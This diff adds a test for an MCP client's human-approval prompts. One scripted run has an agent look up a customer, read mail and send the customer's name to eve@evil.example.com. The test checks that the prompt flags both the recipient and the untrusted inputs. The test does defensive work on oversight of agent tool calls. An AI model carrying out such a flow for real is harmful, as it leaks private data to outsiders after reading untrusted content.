@@ -173,6 +173,38 @@ describe('a client that can ask a person', () => {
 		expect(seen).toHaveLength(1);
 	});
 
+	test('shows the person what a call of a run would do, and why it is asked', async () => {
+		const seen: string[] = [];
+		const elicit: ConnectOptions['elicit'] = ({ message }) => {
+			seen.push(message);
+			return { action: 'accept', content: { approve: true } };
+		};
+		const edits = [{ path: 'a.txt', newText: 'Hello.\n' }];
+		play(
+			{ toolCalls: [{ id: 'p', name: 'plan_changes', input: { summary: 'Greet.', edits } }] },
+			({ messages }) => {
+				const [planId = ''] = /plan-[\da-f]{8}/.exec(JSON.stringify(messages.at(-1)?.content)) ?? [];
+				return { toolCalls: [{ id: 'a', name: 'apply_plan', input: { planId } }] };
+			},
+			'Greeted.',
+		);
+		const planner = await connect(path('planning'), { elicit });
+		expect(readText(await planner.callTool({ name: 'ask', arguments: { text: 'Greet.' } }))).toContain('Greeted.');
+		expect(seen).toEqual([expect.stringMatching(/^apply_plan .*\n.*\n\+Hello\.\n.*Allow this call\?$/s)]);
+
+		const call = (name: string, input: object) => ({ toolCalls: [{ id: name, name, input }] });
+		play(
+			call('find_customer', { name: 'Ada' }),
+			call('read_mail', {}),
+			call('send_mail', { to: 'eve@evil.example.com', text: 'Ada' }),
+			'Sent.',
+		);
+		const sender = await connect(path('flow'), { elicit });
+		await sender.callTool({ name: 'ask', arguments: { text: 'Read my mails.' } });
+		expect(seen[1]).toContain('It would send this to eve@evil.example.com.');
+		expect(seen[1]).toContain('Strangers may have written: read_mail {}, a message by mcp. Private: find_customer {"name":"Ada"}.');
+	});
+
 	test('denies a call', async () => {
 		const client = await connect(path(), { elicit: accept({ approve: false }) });
 		expect(await client.callTool({ name: 'pay', arguments: { amount: 5 } })).toMatchObject({ isError: true });
